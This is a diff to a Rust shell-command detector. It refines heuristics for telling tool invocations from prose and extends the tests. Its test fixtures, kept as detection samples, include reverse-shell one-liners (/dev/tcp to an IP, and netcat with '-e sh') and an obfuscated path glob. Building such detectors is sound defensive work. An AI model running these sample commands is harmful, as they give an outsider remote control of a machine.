@@ -76,7 +76,8 @@ fn command_at(lower: &str, i: usize) -> Option<(String, usize)> {
 /// Whether what follows a command word looks like shell arguments.
 fn shell_args(rest: &str) -> bool {
     let r = rest.trim_start_matches([' ', '\t', '+']);
-    if r.is_empty() {
+    // Nothing, or only the line break that ends the command.
+    if r.trim().is_empty() {
         return true;
     }
     let first = r.as_bytes()[0];
@@ -104,6 +105,26 @@ fn shell_args(rest: &str) -> bool {
         || arg.contains('.')
         || arg.contains('=')
         || COMMAND_SET.contains(arg.as_str()) && !WORDY_SET.contains(arg.as_str())
+        // `ansible all -m ping`: an option among the next few words.
+        || r.split([' ', '\t', '+']).take(4).any(option)
+}
+
+/// English function words: their presence makes the words after a tool name a sentence
+/// (`python3 is installed`), not its arguments.
+const FUNCTION_WORDS: &[&str] = &[
+    "is", "are", "was", "were", "be", "of", "the", "a", "an", "to", "and", "or", "in", "on", "for",
+    "with", "it", "this", "that", "not", "my", "your", "i", "you", "we", "has", "have",
+];
+
+/// `-m`, `-lvp`, `--version`: a command-line option word.
+fn option(a: &str) -> bool {
+    let o = a.strip_prefix("--").or_else(|| a.strip_prefix('-'));
+    o.is_some_and(|o| {
+        !o.is_empty()
+            && o.len() <= 24
+            && o.starts_with(|c: char| c.is_ascii_alphabetic())
+            && o.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-')
+    })
 }
 
 /// The first non-wordy known command among the next few words after a wrapper command.
@@ -655,7 +676,26 @@ fn scan_one(_orig: &str, lower: &str, ctx: Ctx, obfuscated: bool) -> Option<Hit>
                             msg: "shell command by path",
                         });
                     }
-                    if (!wordy && (with_sep || args) && !lone) || ((with_sep || obfuscated) && args)
+                    // A tool name no prose uses (`ansible-config`, `pip3`, `sha256sum`)
+                    // starting the value, whatever words follow.
+                    let toolish = !wordy
+                        && at_start
+                        && w.bytes().any(|c| c == b'-' || c.is_ascii_digit())
+                        && lower[end..].starts_with([' ', '\t', '+', '\n'])
+                        && !lower[end..]
+                            .split([' ', '\t', '+', '\n'])
+                            .take(6)
+                            .any(|x| FUNCTION_WORDS.contains(&x));
+                    // `env --version`, `perf --help`: a long option right after the word.
+                    let long_opt = at_start
+                        && lower[end..]
+                            .trim_start_matches([' ', '\t', '+'])
+                            .split([' ', '\t', '+', '\n'])
+                            .next()
+                            .is_some_and(|a| a.starts_with("--") && option(a));
+                    if (!wordy && (with_sep || args || toolish) && !lone)
+                        || ((with_sep || obfuscated) && args)
+                        || long_opt
                     {
                         let strong = with_sep || lower[end..].contains(['/', '|', ';', '>', '<']);
                         return Some(Hit {
@@ -903,6 +943,10 @@ mod tests {
             "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
             "{/?s?/?i?/c?t,}",
             ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
+            "visudo\n",
+            "ansible all -m ping\n",
+            "ansible-config dump",
+            "env --version",
         ] {
             assert!(hit(a).is_some(), "{a}");
         }
@@ -936,6 +980,13 @@ mod tests {
             "ping pong 2.0",
             "tea | coffee | shake",
             "it''s a \"\"quoted\"\" word",
+            "top -rated products",
+            "free - shipping over 50",
+            "mount everest is high",
+            "dig deeper into the data",
+            "time - the final frontier",
+            "python3 is installed",
+            "sha256sum of the file is abc",
         ] {
             assert!(hit(b).is_none(), "{b}: {:?}", hit(b));
         }
